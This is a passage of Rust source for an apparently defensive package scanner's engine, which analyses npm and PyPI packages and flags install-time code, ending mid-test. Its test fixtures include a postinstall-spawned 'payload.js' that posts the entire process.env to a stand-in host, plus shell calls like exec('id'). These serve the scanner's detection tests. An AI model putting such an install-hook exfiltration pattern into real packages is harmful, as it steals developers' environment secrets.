//! The scan engine: package tree → facts → findings → report.
//!
//! [`build_facts`] reads the manifest, sniffs every file by name and bytes, parses every
//! JavaScript/TypeScript file once (in parallel, one analyser per worker), reads the install
//! scripts and marks install-time code; [`scan`] then runs every registered rule over those
//! facts and assembles a [`PackageReport`]. Both are pure and synchronous: the same tree
//! always gives the same, deterministically ordered output. A file that cannot be analysed
//! is recorded and the scan goes on.

use crate::install_script::parse_install_scripts;
use crate::registry::all_rules;
use crate::resolve::{dir_of, is_relative_specifier, join_normalize, resolve_exact, resolve_node};
use crate::rule::{Rule, RuleContext};
use ferret_core::{
    Capability, CapabilitySummary, CapabilityUse, Ecosystem, Excerpt, FileError, FileFacts,
    FileKind, Finding, InstallScript, LineIndex, Location, PackageFacts, PackageId, PackageInfo,
    PackageReport, ParseStatus, Span, UseKind,
};
use ferret_source::{PackageTree, TreeFile};
use rayon::prelude::*;
use std::cell::{Cell, RefCell};
use std::collections::{BTreeSet, VecDeque};
use std::num::NonZeroUsize;
use std::sync::{Arc, Mutex, PoisonError};

/// Stack size of the analysis workers: the analysers' own big stack, so they parse in place
/// on the worker (see `ferret_core::analysis_thread`) instead of handing every file to a
/// thread of their own. The parsers recurse over the AST; the analysers bound nesting
/// themselves and size this stack for that bound. Only touched pages are committed.
const WORKER_STACK_BYTES: usize =
    if ferret_js::ANALYSIS_STACK_BYTES > ferret_python::ANALYSIS_STACK_BYTES {
        ferret_js::ANALYSIS_STACK_BYTES
    } else {
        ferret_python::ANALYSIS_STACK_BYTES
    };

/// The manifest file of an npm package, relative to the package root.
pub const MANIFEST: &str = "package.json";

/// Builds the fact model of a package: every file sniffed, every JS/TS file analysed once,
/// install scripts read and install-time code marked.
pub fn build_facts(tree: &PackageTree, ecosystem: Ecosystem) -> PackageFacts {
    build_facts_with(tree, ecosystem, |entries| analyse_files(entries, ecosystem))
}

/// [`build_facts`] with the per-file analysis supplied: `analyse` returns the facts of the
/// given files, in order. The package diff analyses files identical in both versions once.
pub(crate) fn build_facts_with(
    tree: &PackageTree,
    ecosystem: Ecosystem,
    analyse: impl FnOnce(&[&TreeFile]) -> Vec<FileFacts>,
) -> PackageFacts {
    // Sorted by path, one entry per path (a source never yields duplicates, but a tree built
    // in memory might; the first wins, as in extraction).
    let mut entries: Vec<&TreeFile> = tree.files.iter().collect();
    entries.sort_by(|a, b| a.path.cmp(&b.path));
    entries.dedup_by(|a, b| a.path == b.path);
    let paths: BTreeSet<String> = entries.iter().map(|f| f.path.clone()).collect();

    let manifest = match ecosystem {
        Ecosystem::Npm => read_manifest(tree),
        Ecosystem::PyPI => {
            let (value, error) = crate::python_install::read_manifest(tree);
            Manifest {
                value,
                text: None,
                error,
            }
        }
    };
    let id = PackageId {
        ecosystem,
        name: manifest_str(manifest.value.as_ref(), "name"),
        version: manifest_str(manifest.value.as_ref(), "version"),
    };

    let mut files = analyse(&entries);

    let mut install_scripts = match (&manifest.value, &manifest.text) {
        (Some(value), Some(text)) => parse_install_scripts(value, text, &paths),
        _ => Vec::new(),
    };
    if ecosystem == Ecosystem::PyPI {
        // setup.py, in-tree build backends and `.pth` import lines (python_install.rs).
        install_scripts = crate::python_install::install_hooks(tree, manifest.value.as_ref());
        crate::python_install::analyse_pth(&mut files, tree, &install_scripts);
    }
    add_package_level_uses(&mut files, &install_scripts, manifest.text.as_deref());
    let mut install_time_files = mark_install_time(&mut files, &install_scripts, &paths);
    if ecosystem == Ecosystem::PyPI {
        install_time_files.extend(crate::python_install::mark_install_time(
            &mut files,
            &install_scripts,
            &paths,
        ));
    }

    PackageFacts {
        id,
        manifest: manifest.value,
        manifest_error: manifest.error,
        files,
        install_scripts,
        install_time_files,
        archive_issues: tree.issues.clone(),
        registry: None,
        metadata_status: ferret_core::MetadataStatus::default(),
    }
}

/// Scans a package: builds its facts and runs every registered rule. Findings carry each
/// rule's default action; the policy re-applies actions afterwards.
pub fn scan(tree: &PackageTree, ecosystem: Ecosystem) -> PackageReport {
    scan_with(tree, ecosystem, &ScanOptions::default())
}

/// How a scan runs. Options never change what a scan finds, only how it uses the machine.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ScanOptions {
    /// Analysis worker threads; `None` is one per core. Front ends decide (the CLI and the
    /// bench read `FERRET_THREADS`); the engine never reads the environment.
    pub threads: Option<NonZeroUsize>,
}

/// [`scan`] with explicit [`ScanOptions`].
pub fn scan_with(tree: &PackageTree, ecosystem: Ecosystem, options: &ScanOptions) -> PackageReport {
    on_pool(options.threads, || {
        let facts = build_facts(tree, ecosystem);
        let alerts = run_rules(&facts, all_rules());
        report(tree, &facts, alerts)
    })
}

/// Scans many packages in parallel, one result per input, in input order. Each input is
/// opened by `open` on the worker that scans it, so only about one package per worker is in
/// memory at a time; packages are spread over the workers and a large package's files are
/// shared out too (small packages alone would leave cores idle at the tail, a per-file split
/// alone would leave them idle between packages).
pub fn scan_many<T, E, F>(
    inputs: &[T],
    ecosystem: Ecosystem,
    options: &ScanOptions,
    open: F,
) -> Vec<Result<PackageReport, E>>
where
    T: Sync,
    E: Send,
    F: Fn(&T) -> Result<PackageTree, E> + Sync,
{
    on_pool(options.threads, || {
        inputs
            .par_iter()
            .with_max_len(1)
            .map(|input| {
                open(input).map(|tree| {
                    let report = scan_with(&tree, ecosystem, options);
                    // The next package opened reads into these buffers (no fresh pages).
                    ferret_source::recycle(tree);
                    report
                })
            })
            .collect()
    })
}

/// Runs `rules` over the facts (`check_file` per file, then `check_package`) and returns
/// their findings sorted by [`Finding::sort_key`]. Files are checked in parallel; findings
/// are gathered in file order and the sort is stable, so the output is deterministic.
pub fn run_rules<R: Rule>(facts: &PackageFacts, rules: &[R]) -> Vec<Finding> {
    let per_file = || -> Vec<Vec<Finding>> {
        facts
            .files
            .par_iter()
            .map(|file| {
                let mut cx = RuleContext::new();
                for rule in rules {
                    rule.check_file(file, facts, &mut cx);
                }
                cx.into_findings()
            })
            .collect()
    };
    let mut findings: Vec<Finding> = on_pool(None, per_file).into_iter().flatten().collect();
    let mut cx = RuleContext::new();
    for rule in rules {
        rule.check_package(facts, &mut cx);
    }
    findings.extend(cx.into_findings());
    findings.sort_by(|a, b| a.sort_key().cmp(&b.sort_key()));
    findings
}

/// Assembles the report of a package from its facts and findings.
pub fn report(tree: &PackageTree, facts: &PackageFacts, alerts: Vec<Finding>) -> PackageReport {
    PackageReport {
        package: PackageInfo {
            ecosystem: facts.id.ecosystem,
            name: facts.id.name.clone(),
            version: facts.id.version.clone(),
            integrity: tree.integrity.clone(),
            source: tree.source.clone(),
            file_count: u64::try_from(tree.files.len()).unwrap_or(u64::MAX),
            unpacked_size: tree.unpacked_size,
        },
        capabilities: capability_summaries(facts),
        alerts: alerts
            .into_iter()
            .filter(|f| f.action != ferret_core::Action::Ignore)
            .collect(),
        files_failed: file_errors(facts),
        project: None,
        not_evaluated: Vec::new(),
    }
}

/// The capability profile: per capability present, every use in the package, sorted.
pub fn capability_summaries(facts: &PackageFacts) -> Vec<CapabilitySummary> {
    let mut out = Vec::new();
    for cap in Capability::ALL {
        let mut locations: Vec<CapabilityUse> = facts
            .files
            .iter()
            .flat_map(|f| f.uses_of(cap))
            .cloned()
            .collect();
        if locations.is_empty() {
            continue;
        }
        locations.sort_by(|a, b| {
            (
                &a.location.path,
                a.location.line,
                a.location.column,
                &a.api,
                a.kind,
            )
                .cmp(&(
                    &b.location.path,
                    b.location.line,
                    b.location.column,
                    &b.api,
                    b.kind,
                ))
        });
        out.push(CapabilitySummary {
            capability: cap,
            count: locations.len(),
            install_time: locations.iter().any(|u| u.install_time),
            locations,
        });
    }
    out
}

/// Files that could not be analysed, and why: parse failures, skipped files, binaries named
/// like code, archive entries that were not extracted.
pub fn file_errors(facts: &PackageFacts) -> Vec<FileError> {
    let mut out = Vec::new();
    for f in &facts.files {
        let reason = match &f.status {
            ParseStatus::Failed { message, .. } => Some(format!("parse error: {message}")),
            ParseStatus::Skipped { reason } => Some(format!("skipped: {reason}")),
            ParseStatus::Parsed | ParseStatus::NotCode => None,
        };
        if let Some(reason) = reason {
            out.push(FileError {
                path: f.path.clone(),
                reason,
            });
        } else if is_disguised_binary(f) {
            out.push(FileError {
                path: f.path.clone(),
                reason: format!(
                    "{} content in a file named like source code; not analysed",
                    kind_name(f.kind)
                ),
            });
        }
    }
    for issue in &facts.archive_issues {
        out.push(FileError {
            path: issue.path.clone(),
            // A wheel's RECORD check names extracted files whose content disagrees with it.
            reason: if issue.kind.starts_with("record-") {
                format!("wheel RECORD check ({}): {}", issue.kind, issue.detail)
            } else {
                format!("not extracted ({}): {}", issue.kind, issue.detail)
            },
        });
    }
    out.sort();
    out
}

/// Whether a file is named like source code (`.js`, `.ts`, `.py`, …) but its bytes are a
/// binary (executable, library, WebAssembly or other non-text content).
pub fn is_disguised_binary(file: &FileFacts) -> bool {
    matches!(
        file.kind,
        FileKind::NativeBinary | FileKind::Wasm | FileKind::Binary
    ) && has_code_extension(&file.path)
}

/// Extensions of files that are run or imported as source code.
pub fn has_code_extension(path: &str) -> bool {
    let name = path.rsplit('/').next().unwrap_or(path);
    let Some((_, ext)) = name.rsplit_once('.') else {
        return false;
    };
    matches!(
        ext.to_ascii_lowercase().as_str(),
        "js" | "cjs" | "mjs" | "jsx" | "ts" | "cts" | "mts" | "tsx" | "py" | "pyw" | "sh" | "json"
    )
}

/// A human name for a file kind, for messages.
pub fn kind_name(kind: FileKind) -> &'static str {
    match kind {
        FileKind::JavaScript => "JavaScript",
        FileKind::TypeScript => "TypeScript",
        FileKind::Python => "Python",
        FileKind::Json => "JSON",
        FileKind::NativeBinary => "native binary",
        FileKind::Wasm => "WebAssembly",
        FileKind::Binary => "binary",
        FileKind::Script => "shell script",
        FileKind::Text => "text",
    }
}

#[derive(Default)]
struct Manifest {
    value: Option<serde_json::Value>,
    text: Option<String>,
    error: Option<String>,
}

fn read_manifest(tree: &PackageTree) -> Manifest {
    let Some(file) = tree.files.iter().find(|f| f.path == MANIFEST) else {
        return Manifest {
            error: Some("the package has no package.json".to_string()),
            ..Manifest::default()
        };
    };
    let text = match std::str::from_utf8(&file.data) {
        Ok(t) => t.strip_prefix('\u{feff}').unwrap_or(t).to_string(),
        Err(e) => {
            return Manifest {
                error: Some(format!(
                    "package.json is not valid UTF-8 (byte {})",
                    e.valid_up_to()
                )),
                ..Manifest::default()
            };
        }
    };
    match serde_json::from_str::<serde_json::Value>(&text) {
        Ok(value) if value.is_object() => Manifest {
            value: Some(value),
            text: Some(text),
            error: None,
        },
        Ok(_) => Manifest {
            text: Some(text),
            error: Some("package.json is not a JSON object".to_string()),
            ..Manifest::default()
        },
        Err(e) => Manifest {
            text: Some(text),
            // serde_json's message ends with "at line L column C", which rules use to point
            // at the error.
            error: Some(format!("package.json is not valid JSON: {e}")),
            ..Manifest::default()
        },
    }
}

fn manifest_str(manifest: Option<&serde_json::Value>, key: &str) -> String {
    manifest
        .and_then(|m| m.get(key))
        .and_then(serde_json::Value::as_str)
        .filter(|s| !s.is_empty())
        .map_or_else(|| "unknown".to_string(), str::to_string)
}

/// Analysis pools, one per thread count asked for (in practice one or two per process), kept
/// for the life of the process: building a pool and warming its analysers costs more than
/// scanning a small package.
static POOLS: Mutex<Vec<(usize, Arc<rayon::ThreadPool>)>> = Mutex::new(Vec::new());

/// The analysis pool with `threads` workers (`None`: one per core); `None` only if the OS
/// refuses the threads, in which case the caller's thread (or pool) does the work.
fn pool(threads: Option<NonZeroUsize>) -> Option<Arc<rayon::ThreadPool>> {
    let n = threads.map_or_else(
        || std::thread::available_parallelism().map_or(1, NonZeroUsize::get),
        NonZeroUsize::get,
    );
    let mut pools = POOLS.lock().unwrap_or_else(PoisonError::into_inner);
    if let Some((_, p)) = pools.iter().find(|(k, _)| *k == n) {
        return Some(Arc::clone(p));
    }
    let p = Arc::new(
        rayon::ThreadPoolBuilder::new()
            .num_threads(n)
            .stack_size(WORKER_STACK_BYTES)
            .thread_name(|i| format!("ferret-analyze-{i}"))
            .start_handler(|_| {
                ON_ANALYSIS_POOL.with(|c| c.set(true));
                ferret_core::analysis_thread::mark_analysis_thread();
            })
            .build()
            .ok()?,
    );
    pools.push((n, Arc::clone(&p)));
    Some(p)
}

/// Runs `work` on the analysis pool of `threads` workers. Already on an analysis worker (a
/// package scanned by [`scan_many`]), it runs in place, so the nested per-file parallelism
/// shares that pool instead of multiplying threads.
fn on_pool<R: Send>(threads: Option<NonZeroUsize>, work: impl FnOnce() -> R + Send) -> R {
    if ON_ANALYSIS_POOL.with(Cell::get) {
        return work();
    }
    match pool(threads) {
        Some(p) => p.install(work),
        None => work(),
    }
}

thread_local! {
    /// Set on the workers of the analysis pools.
    static ON_ANALYSIS_POOL: Cell<bool> = const { Cell::new(false) };
    /// One analyser per worker thread, kept for the life of the thread: an analyser owns a
    /// long-lived parsing thread and arena, so creating one per file or per rayon job would
    /// cost more than parsing a typical file.
    static ANALYZER: RefCell<Option<ferret_js::Analyzer>> = const { RefCell::new(None) };
    /// The same for Python files.
    static PY_ANALYZER: RefCell<Option<ferret_python::Analyzer>> = const { RefCell::new(None) };
}

pub(crate) fn analyse_files(entries: &[&TreeFile], ecosystem: Ecosystem) -> Vec<FileFacts> {
    let work = || -> Vec<FileFacts> {
        entries
            .par_iter()
            .map(|file| {
                ANALYZER.with(|cell| {
                    let mut slot = cell.borrow_mut();
                    let analyzer = slot.get_or_insert_with(ferret_js::Analyzer::new);
                    analyse_one(analyzer, file, ecosystem)
                })
            })
            .collect()
    };
    on_pool(None, work)
}

fn analyse_one(analyzer: &mut ferret_js::Analyzer, file: &TreeFile, eco: Ecosystem) -> FileFacts {
    let mut kind = ferret_source::sniff_kind(&file.path, &file.data);
    let size = u64::try_from(file.data.len()).unwrap_or(u64::MAX);
    // Sniffing calls any file that is not UTF-8 "binary". A source file in another encoding
    // (Latin-1 comments in old packages) is still text: node reads it, replacing invalid
    // bytes with U+FFFD. Only NUL bytes or magic numbers make a code-named file a binary.
    if kind == FileKind::Binary && has_code_extension(&file.path) && !has_nul(&file.data) {
        kind = text_kind_for(&file.path);
    }
    let mut facts = if is_binary_kind(kind) {
        FileFacts::new(file.path.clone(), kind, size)
    } else if eco == Ecosystem::Npm && ferret_js::is_js_path(&file.path) {
        let (source, invalid_at) = match std::str::from_utf8(&file.data) {
            Ok(s) => (std::borrow::Cow::Borrowed(s), None),
            Err(e) => (String::from_utf8_lossy(&file.data), Some(e.valid_up_to())),
        };
        let mut f = analyzer.analyze(&file.path, &source);
        f.signals = crate::detect::text::text_signals(&file.path, &source);
        // The text check runs where the parse saw a loop outside braces, or could not tell.
        if f.top_level_loop || f.status != ParseStatus::Parsed {
            f.signals.top_level_infinite_loops =
                crate::detect::behavior::top_level_infinite_loops(&file.path, &source);
        }
        f.path.clone_from(&file.path);
        f.kind = kind;
        f.size = size;
        if let Some(at) = invalid_at {
            // Analysed as node would run it, but recorded: offsets after the first invalid
            // byte shift, and an encoding trick is worth a look.
            let mut message = format!(
                "not valid UTF-8 (first invalid byte at offset {at}); analysed as node decodes it"
            );
            if let ParseStatus::Failed { message: m, .. } = &f.status {
                message = format!("{message}; {m}");
            }
            f.status = ParseStatus::Failed {
                message,
                location: None,
            };
        }
        f
    } else if eco == Ecosystem::PyPI && ferret_python::is_python_path(&file.path) {
        // Python decodes source as UTF-8 by default; invalid bytes are replaced, as for JS.
        let source = String::from_utf8_lossy(&file.data);
        let mut f = PY_ANALYZER.with(|cell| {
            let mut slot = cell.borrow_mut();
            let analyzer = slot.get_or_insert_with(ferret_python::Analyzer::new);
            analyzer.analyze(&file.path, &source)
        });
        f.signals = crate::detect::text::text_signals(&file.path, &source);
        f.size = size;
        f
    } else if kind == FileKind::Script {
        let mut f = FileFacts::new(file.path.clone(), kind, size);
        f.strings = script_lines(&file.path, &file.data);
        f
    } else {
        FileFacts::new(file.path.clone(), kind, size)
    };
    if let Some(u) = native_file_use(&file.path, kind, &file.data) {
        facts.uses.push(u);
    }
    facts
}

/// Most bytes and lines of a shell/batch/PowerShell script kept as line facts: scripts are
/// not parsed, and behaviour rules read their command lines as strings.
const SCRIPT_MAX_BYTES: usize = 256 * 1024;
const SCRIPT_MAX_LINES: usize = 4096;

/// The non-empty lines of a script (`.sh`, `.bat`, `.cmd`, `.ps1`), one string fact each.
fn script_lines(path: &str, data: &[u8]) -> Vec<ferret_core::StringFact> {
    let text = String::from_utf8_lossy(&data[..data.len().min(SCRIPT_MAX_BYTES)]);
    let mut out = Vec::new();
    let mut offset = 0usize;
    for (i, line) in text.split('\n').enumerate() {
        let start = offset;
        offset += line.len() + 1;
        let value = line.trim();
        if value.is_empty() || out.len() >= SCRIPT_MAX_LINES {
            continue;
        }
        let value: String = value
            .chars()
            .take(ferret_core::StringFact::MAX_CHARS)
            .collect();
        let to_u32 = |n: usize| u32::try_from(n).unwrap_or(u32::MAX);
        out.push(ferret_core::StringFact {
            len: value.len(),
            value,
            folded: false,
            location: Location {
                path: path.to_string(),
                line: to_u32(i + 1),
                column: 1,
                span: Span::new(to_u32(start), to_u32(start + line.len())),
            },
        });
    }
    out
}

/// Bytes looked at for NUL when deciding whether a code-named file is binary.
const NUL_WINDOW: usize = 8192;

fn has_nul(data: &[u8]) -> bool {
    memchr::memchr(0, &data[..data.len().min(NUL_WINDOW)]).is_some()
}

/// The kind a code-named text file has, from its extension.
fn text_kind_for(path: &str) -> FileKind {
    let ext = path.rsplit_once('.').map(|(_, e)| e.to_ascii_lowercase());
    match ext.as_deref() {
        Some("ts" | "tsx" | "mts" | "cts") => FileKind::TypeScript,
        Some("js" | "cjs" | "mjs" | "jsx") => FileKind::JavaScript,
        Some("py" | "pyw") => FileKind::Python,
        Some("json") => FileKind::Json,
        Some("sh") => FileKind::Script,
        _ => FileKind::Text,
    }
}

fn is_binary_kind(kind: FileKind) -> bool {
    matches!(
        kind,
        FileKind::NativeBinary | FileKind::Wasm | FileKind::Binary
    )
}

/// A file that is itself native code: an ELF/PE/Mach-O binary or `.node` addon, a
/// WebAssembly module, or `binding.gyp` (a native addon built at install).
fn native_file_use(path: &str, kind: FileKind, data: &[u8]) -> Option<CapabilityUse> {
    let name = path.rsplit('/').next().unwrap_or(path);
    let api = match kind {
        FileKind::NativeBinary => "native-binary",
        FileKind::Wasm => "wasm",
        _ if name == "binding.gyp" => "binding.gyp",
        _ if name.ends_with(".node") => "native-binary",
        _ => return None,
    };
    let code = if is_binary_kind(kind) {
        Excerpt {
            line: 1,
            text: format!("<{} file, {} bytes>", kind_name(kind), data.len()),
            highlight_start: 0,
            highlight_len: 1,
        }
    } else {
        first_line_excerpt(data)
    };
    Some(CapabilityUse {
        capability: Capability::NativeCode,
        api: api.to_string(),
        kind: UseKind::File,
        location: file_start(path),
        code,
        detail: Some(kind_name(kind).to_string()),
        install_time: false,
    })
}

/// Line 1, column 1 of a file: where whole-file facts point.
pub fn file_start(path: &str) -> Location {
    Location {
        path: path.to_string(),
        line: 1,
        column: 1,
        span: Span::new(0, 0),
    }
}

fn first_line_excerpt(data: &[u8]) -> Excerpt {
    let end = memchr::memchr(b'\n', data).unwrap_or(data.len()).min(4096);
    let text = String::from_utf8_lossy(&data[..end]);
    let index = LineIndex::new(&text);
    let len = u32::try_from(text.len()).unwrap_or(u32::MAX);
    index.excerpt(&text, Span::new(0, len))
}

/// Install scripts and build tools that fetch or compile native code, as uses on
/// `package.json` (or on `binding.gyp` for npm's implicit `node-gyp rebuild`).
fn add_package_level_uses(
    files: &mut [FileFacts],
    scripts: &[InstallScript],
    manifest_text: Option<&str>,
) {
    let index = manifest_text.map(LineIndex::new);
    for script in scripts {
        let location = script
            .location
            .clone()
            .unwrap_or_else(|| file_start(MANIFEST));
        let code = match (&index, manifest_text, script.location.is_some()) {
            (Some(idx), Some(text), true) if location.path == MANIFEST => {
                idx.excerpt(text, location.span)
            }
            _ => Excerpt {
                line: location.line,
                text: script.command.chars().take(Excerpt::MAX_CHARS).collect(),
                highlight_start: 0,
                highlight_len: 1,
            },
        };
        let mut new_uses = vec![CapabilityUse {
            capability: Capability::InstallScript,
            api: format!("install:{}", script.hook),
            kind: UseKind::File,
            location: location.clone(),
            code: code.clone(),
            detail: Some(script.command.clone()),
            install_time: true,
        }];
        for argv in &script.commands {
            let Some(tool) = native_build_tool(argv) else {
                continue;
            };
            if new_uses
                .iter()
                .any(|u| u.capability == Capability::NativeCode && u.api == tool)
            {
                continue;
            }
            new_uses.push(CapabilityUse {
                capability: Capability::NativeCode,
                api: tool.to_string(),
                kind: UseKind::Call,
                location: location.clone(),
                code: code.clone(),
                detail: Some(argv.join(" ")),
                install_time: true,
            });
        }
        if let Ok(i) = files.binary_search_by(|f| f.path.as_str().cmp(&location.path)) {
            files[i].uses.extend(new_uses);
        }
    }
}

/// Tools that compile native code or download prebuilt binaries at install time.
fn native_build_tool(argv: &[String]) -> Option<&'static str> {
    let first = argv.first()?;
    let name = first.rsplit(['/', '\\']).next().unwrap_or(first);
    Some(match name {
        "node-gyp" => "node-gyp",
        "node-gyp-build" => "node-gyp-build",
        "prebuild-install" => "prebuild-install",
        "node-pre-gyp" => "node-pre-gyp",
        "cmake-js" => "cmake-js",
        _ => return None,
    })
}

/// The package file a string names when it looks like a script path (`x.js`,
/// `./lib/y.sh`, `node z.mjs`), resolved against the naming file's directory, then the root.
fn spawned_file(dir: &str, value: &str, paths: &BTreeSet<String>) -> Option<String> {
    if value.len() > 256 {
        return None;
    }
    for word in value.split_whitespace() {
        let word = word.trim_matches(['"', '\'', '`']);
        let lower = word.to_ascii_lowercase();
        let is_script = [".js", ".cjs", ".mjs", ".ts", ".sh", ".py"]
            .iter()
            .any(|e| lower.ends_with(e));
        if !is_script {
            continue;
        }
        let rel = word.strip_prefix("./").unwrap_or(word);
        let found = join_normalize(dir, rel)
            .filter(|p| paths.contains(p))
            .or_else(|| resolve_exact(rel, paths));
        if found.is_some() {
            return found;
        }
    }
    None
}

/// Marks the files install scripts run, and everything they reach through relative static
/// imports, as install-time code (the file and each of its uses). Returns the set.
fn mark_install_time(
    files: &mut [FileFacts],
    scripts: &[InstallScript],
    paths: &BTreeSet<String>,
) -> BTreeSet<String> {
    let mut seen: BTreeSet<String> = BTreeSet::new();
    let mut queue: VecDeque<String> = scripts
        .iter()
        .flat_map(|s| s.runs_files.iter().cloned())
        .collect();
    while let Some(path) = queue.pop_front() {
        if !seen.insert(path.clone()) {
            continue;
        }
        let Ok(i) = files.binary_search_by(|f| f.path.as_str().cmp(&path)) else {
            continue;
        };
        let dir = dir_of(&files[i].path).to_string();
        // An install-time file that starts processes usually starts a package file
        // (`spawn(bun, [path.join(__dirname, 'payload.js')])`, `exec('node x.js')`): the
        // argument is rarely a constant, so any string naming a script in the package counts.
        if files[i].uses_of(Capability::Shell).next().is_some() {
            for s in &files[i].strings {
                if let Some(target) = spawned_file(&dir, &s.value, paths)
                    && !seen.contains(&target)
                {
                    queue.push_back(target);
                }
            }
        }
        for import in &files[i].imports {
            let Some(spec) = import.specifier.as_deref() else {
                continue;
            };
            if !is_relative_specifier(spec) {
                continue;
            }
            if let Some(target) = resolve_node(&dir, spec, paths)
                && !seen.contains(&target)
            {
                queue.push_back(target);
            }
        }
    }
    for file in files.iter_mut() {
        if seen.contains(&file.path) {
            file.install_time = true;
            for u in &mut file.uses {
                u.install_time = true;
            }
        }
    }
    seen
}

#[cfg(test)]
mod tests {
    use super::*;

    fn tree(files: &[(&str, &[u8])]) -> PackageTree {
        ferret_source::from_files(
            "test",
            files
                .iter()
                .map(|(p, d)| ((*p).to_string(), d.to_vec()))
                .collect(),
        )
    }

    const MANIFEST_WITH_POSTINSTALL: &[u8] =
        br#"{"name":"demo","version":"1.2.3","scripts":{"postinstall":"node lib/install.js"}}"#;

    #[test]
    fn install_time_follows_relative_requires_transitively() {
        let t = tree(&[
            ("package.json", MANIFEST_WITH_POSTINSTALL),
            (
                "lib/install.js",
                b"require('./a'); require('lodash'); import('../b.mjs');",
            ),
            ("lib/a.js", b"require('./c/'); require('./install.js');"),
            ("lib/c/index.js", b"require('child_process').exec('id')"),
            ("b.mjs", b"export default 1;"),
            ("lib/unused.js", b"require('fs')"),
        ]);
        let facts = build_facts(&t, Ecosystem::Npm);
        assert_eq!(facts.id, PackageId::npm("demo", "1.2.3"));
        let marked: Vec<&str> = facts
            .install_time_files
            .iter()
            .map(String::as_str)
            .collect();
        assert_eq!(
            marked,
            ["b.mjs", "lib/a.js", "lib/c/index.js", "lib/install.js"]
        );
        let c = facts.file("lib/c/index.js").unwrap();
        assert!(c.install_time);
        assert!(!c.uses.is_empty() && c.uses.iter().all(|u| u.install_time));
        let unused = facts.file("lib/unused.js").unwrap();
        assert!(!unused.install_time && unused.uses.iter().all(|u| !u.install_time));
    }

    #[test]
    fn files_spawned_from_install_time_code_are_install_time() {
        let t = tree(&[
            ("package.json", MANIFEST_WITH_POSTINSTALL),
            (
                "lib/install.js",
                b"const { spawn } = require('child_process');\nconst p = require('path').join(__dirname, 'payload.js');\nspawn('bun', [p]);",
            ),
            ("lib/payload.js", b"fetch('https://example.invalid/', { body: JSON.stringify(process.env) })"),
            ("lib/other.js", b"module.exports = 'payload.js';"),
            ("readme.js", b"module.exports = 1;"),
        ]);
        let facts = build_facts(&t, Ecosystem::Npm);
        let marked: Vec<&str> = facts
            .install_time_files
            .iter()
            .map(String::as_str)
            .collect();
        assert_eq!(marked, ["lib/install.js", "lib/payload.js"]);
    }

    #[test]
    fn report_profile_and_install_time_summary() {
        let t = tree(&[
            ("package.json", MANIFEST_WITH_POSTINSTALL),
            (
                "lib/install.js",
                b"const cp = require('child_process');\ncp.exec('id');",
            ),
            ("index.js", b"require('child_process').spawn('ls')"),
        ]);
        let report = scan(&t, Ecosystem::Npm);
        assert_eq!(report.package.name, "demo");
        assert_eq!(report.package.file_count, 3);
        let shell = report
            .capabilities
            .iter()
            .find(|c| c.capability == Capability::Shell)
            .unwrap();
        assert!(shell.install_time);
        assert_eq!(shell.count, shell.locations.len());
        let paths: Vec<&str> = shell
            .locations
            .iter()
            .map(|u| u.location.path.as_str())
            .collect();
        let mut sorted = paths.clone();
        sorted.sort_unstable();
        assert_eq!(paths, sorted);
        assert!(paths.contains(&"index.js") && paths.contains(&"lib/install.js"));
        let install = report
            .capabilities
            .iter()
            .find(|c| c.capability == Capability::InstallScript)
            .unwrap();
        assert_eq!(install.locations[0].location.path, "package.json");
        let shell_alert = report
            .alerts
            .iter()
            .find(|a| a.rule == "shell-access" && a.install_time)
            .unwrap();
        assert_eq!(
            shell_alert.location.as_ref().unwrap().path,
            "lib/install.js"
        );
    }

    #[test]
    fn output_is_deterministic() {
        let files: Vec<(String, Vec<u8>)> = (0..40)
            .map(|i| {
                (
                    format!("lib/f{i}.js"),
                    format!(
                        "require('fs').readFileSync('x{i}'); fetch('https://example.invalid/{i}')"
                    )
                    .into_bytes(),
                )
            })
            .chain([(
                "package.json".to_string(),
                MANIFEST_WITH_POSTINSTALL.to_vec(),
            )])
            .collect();
        let mut reversed = files.clone();
        reversed.reverse();
        let a = scan(&ferret_source::from_files("test", files), Ecosystem::Npm);
        let b = scan(&ferret_source::from_files("test", reversed), Ecosystem::Npm);
        assert_eq!(
            serde_json::to_string(&a).unwrap(),
            serde_json::to_string(&b).unwrap()
        );
        assert!(a.alerts.len() >= 80);
    }

    #[test]
    fn scan_many_matches_single_scans_in_input_order() {
        let packages: Vec<Vec<(&str, &[u8])>> = vec![
            vec![
                ("package.json", MANIFEST_WITH_POSTINSTALL),
                ("lib/install.js", b"require('child_process').exec('id')"),
            ],
            vec![
                ("package.json", br#"{"name":"b","version":"1.0.0"}"#),
                ("index.js", b"fetch('https://example.invalid/')"),
            ],
            vec![("README.md", b"no manifest")],
        ];
        let one = ScanOptions {
            threads: NonZeroUsize::new(1),
        };
        let many = scan_many(&packages, Ecosystem::Npm, &one, |files| {
            if files.iter().any(|(p, _)| *p == "package.json") {
                Ok(tree(files))
            } else {
                Err("not a package")
            }
        });
        assert_eq!(many.len(), 3);
        assert_eq!(many[2], Err("not a package"));
        for (files, got) in packages.iter().zip(&many).take(2) {
            let want = scan(&tree(files), Ecosystem::Npm);
            assert_eq!(got.as_ref().unwrap(), &want);
        }
        assert_eq!(many[0].as_ref().unwrap().package.name, "demo");
        assert_eq!(many[1].as_ref().unwrap().package.name, "b");
        let two = ScanOptions {
            threads: NonZeroUsize::new(2),
        };
        let t = tree(&packages[1]);
        assert_eq!(
            scan_with(&t, Ecosystem::Npm, &two),
            scan(&t, Ecosystem::Npm)
        );
    }

    #[test]
    fn file_errors_name_their_reason() {
        let t = tree(&[
            ("package.json", br#"{"name":"x","version":"1.0.0"}"#),
            ("bad.js", b"function ("),
            ("latin1.js", b"// caf\xe9\nmodule.exports = 1;"),
            ("elf.js", b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00"),
            ("ok.js", b"module.exports = 1;"),
        ]);
        let report = scan(&t, Ecosystem::Npm);
        let errors: Vec<(&str, &str)> = report
            .files_failed
            .iter()
            .map(|e| (e.path.as_str(), e.reason.as_str()))
            .collect();
        assert_eq!(errors.len(), 3, "{errors:?}");
        assert_eq!(errors[0].0, "bad.js");
        assert!(errors[0].1.starts_with("parse error"));
        assert_eq!(errors[1].0, "elf.js");
        assert!(errors[1].1.starts_with("native binary content"));
        assert_eq!(errors[2].0, "latin1.js");
        assert!(errors[2].1.contains("not valid UTF-8"));
        let rules: Vec<&str> = report.alerts.iter().map(|a| a.rule.as_str()).collect();
        assert!(rules.contains(&"disguised-binary") && rules.contains(&"unparseable-code"));
    }

    #[test]
    fn deep_nesting_does_not_crash() {
        let deep = format!("x = {}1{};", "(".repeat(100_000), ")".repeat(100_000));
        let t = tree(&[
